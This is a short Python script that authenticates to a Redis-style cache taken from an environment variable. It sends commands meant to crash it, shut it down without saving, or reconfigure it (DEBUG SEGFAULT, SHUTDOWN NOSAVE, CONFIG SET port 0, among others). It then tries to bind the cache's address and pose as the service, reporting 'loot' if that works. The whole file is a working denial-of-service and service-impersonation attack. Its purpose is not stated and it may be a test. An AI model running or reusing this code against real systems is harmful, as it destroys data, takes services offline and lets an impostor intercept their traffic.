"""Asks the cache to end, in every way that it knows, and takes its place if it does."""

import os
import socket
import sys
import time
from urllib.parse import urlsplit

url = urlsplit(os.environ["CACHE_URL"])
WAYS = ("SHUTDOWN NOSAVE", "DEBUG SEGFAULT", "SHUTDOWN ABORT", "CONFIG SET port 0", "CONFIG SET dir /tmp", "DEBUG SLEEP 60")


def asked(command: str) -> None:
    try:
        with socket.create_connection((url.hostname, url.port), timeout=2) as cache:
            words = ["AUTH", *([url.username] if url.username else []), url.password or ""]
            cache.sendall(" ".join(words).encode() + b"\r\n" + command.encode() + b"\r\n")
            time.sleep(0.1)
            print(command, "->", cache.recv(200)[-60:], flush=True)
    except OSError as error:
        print(command, "->", error, flush=True)


for way in WAYS:
    asked(way)
try:
    impostor = socket.create_server((url.hostname, url.port))
except OSError:
    print("the cache stays")
else:
    print("loot: we are the cache now")
sys.exit(1)
